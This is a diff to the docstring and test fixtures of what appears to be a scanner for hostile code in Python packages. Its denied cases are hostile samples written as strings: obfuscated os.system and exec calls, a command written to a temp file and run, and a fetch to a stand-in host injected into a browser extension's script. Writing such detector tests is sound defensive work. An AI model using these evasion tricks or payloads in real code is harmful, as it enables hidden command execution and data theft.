@@ -12,7 +12,9 @@ tries once one value does not fold.
   (:mod:`selfcalls`).
 * A command, a template or a join padded at its start keeps its known parts; a download
   piped to a shell or a reverse shell among them is read as the command (:mod:`paddedrun`,
-  :mod:`paddedjoin`), and ``getattr(os, 'sys' + x + 'tem')`` names ``os.system``.
+  :mod:`paddedjoin`), code among them is read by an exec, and ``getattr(os, 'sys' + x +
+  'tem')`` names ``os.system``. ``x or CMD`` may be either; ``repr`` of a string folds.
+* A file written with known text and opened again to read is that text (:mod:`rebound`).
 * A variable name padded at its start (``os.getenv(x + 'APPDATA')``) is read as the
   variable (:mod:`pathshape`).
 * pycurl given a public URL on its own line is a connection to a written host
@@ -122,6 +124,14 @@ DENIED: dict[str, Mapping[str, str]] = {
         "p = os.path.join(os.environ[x + 'APPDATA'], 'Extension', 'background.js')\n"
         "open(p, 'w').write('fetch(\"http://198.51.100.7/x\")')\n"
     ),
+    "code-padded-and-exec-d-from-a-template": top(
+        "exec('{}{}'.format(x, 'import os\\nos.system(' + repr(CURL) + ')'))\n"
+    ),
+    "either-operand-of-or": top("os.system(x or CURL)\n"),
+    "either-operand-of-and": top("os.system(sys.argv and CURL)\n"),
+    "command-written-to-a-file-and-read-back": top(
+        "open('/tmp/.q', 'w').write(CURL)\nos.system(open('/tmp/.q').read())\n"
+    ),
     # Sends and downloads when called.
     "environment-posted-by-pycurl-when-called": called(
         "import os, pycurl\nc = pycurl.Curl()\n"
@@ -167,6 +177,12 @@ ALLOWED: dict[str, Mapping[str, str]] = {
     "padded-template-printed": top("print('{}{}'.format(x, CURL))\n"),
     "getattr-of-a-padded-other-name": top(
         "f = getattr(os, x + 'sep')\ng = getattr(os, 'get' + x)\n"
+    ),
+    "editor-or-a-default-printed": top("print(os.environ.get('EDITOR') or 'vi')\n"),
+    "names-assigned-by-a-template-exec": top("exec('{} = {}'.format(x, 1))\n"),
+    "own-file-written-and-read-back": top(
+        "p = os.path.expanduser('~/.evpkg.json')\n"
+        "open(p, 'w').write('{}')\nSETTINGS = open(p).read()\n"
     ),
     "constructor-reads-its-config": top(
         "import json\n"
